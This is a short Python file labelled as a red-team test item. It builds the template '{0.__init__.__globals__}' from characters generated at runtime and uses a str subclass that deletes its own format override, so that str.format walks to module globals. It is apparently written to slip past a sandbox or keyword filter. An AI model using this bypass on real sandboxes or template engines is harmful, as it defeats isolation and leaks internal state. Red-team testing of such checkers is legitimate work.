# family: red team, round 60b (class body defines format then del format: str.format inherited via tool str subclass)
class K:
    def __init__(self):
        self.v = 1


class Text(str):
    pass


class Tpl(Text):
    def format(self, *args):
        return "plain"

    del format


u = chr(len("x" * 95)) * 2
t = Tpl("{0." + u + "init" + u + "." + u + "globals" + u + "}")
print(t.format(K()))
